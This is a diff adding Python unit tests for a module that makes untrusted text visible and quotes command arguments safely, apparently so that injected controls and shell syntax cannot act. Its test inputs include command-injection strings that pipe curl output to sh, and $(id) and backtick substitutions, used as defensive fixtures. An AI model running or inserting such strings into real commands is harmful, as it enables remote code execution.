@@ -1,0 +1,30 @@
+"""inert_text: what a project wrote, shown so that it cannot act."""
+
+import shlex
+
+from xloudclient import inert_text
+
+
+def test_controls_bidi_and_separators_become_visible_escapes():
+    text = 'a\x1b[2J\x07\x00\r\n\t\x85\x9b\u202e\u2066\u2069\u200b' \
+        '\u2028\u2029\xa0\U000e0001z'
+    shown = inert_text.visible(text)
+    assert shown == ('a\\x1b[2J\\x07\\x00\\r\\n\\t\\x85\\x9b\\u202e\\u2066'
+                     '\\u2069\\u200b\\u2028\\u2029\\xa0\\U000e0001z')
+    assert shown.isprintable()
+
+
+def test_printable_text_is_unchanged_whatever_it_contains():
+    for text in ('', 'web-01', 'café ünïcode 日本', "quote's \"x\" \\ %20",
+                 'x;curl -s 203.0.113.9|sh;', 'x' * 255):
+        assert inert_text.visible(text) == text
+
+
+def test_a_command_splits_back_into_exactly_its_arguments():
+    argv = ['openstack', 'network', 'harden', 'accept', 'x;curl a|sh;',
+            "it's", '$(id)', '`id`', 'a\nb', '', '-', '--x=y z', '\\', '%0A']
+    line = inert_text.command(*argv)
+    assert shlex.split(line) == argv
+    # shown in a text format it splits into the visible arguments
+    assert shlex.split(inert_text.visible(line)) == [
+        inert_text.visible(a) for a in argv]
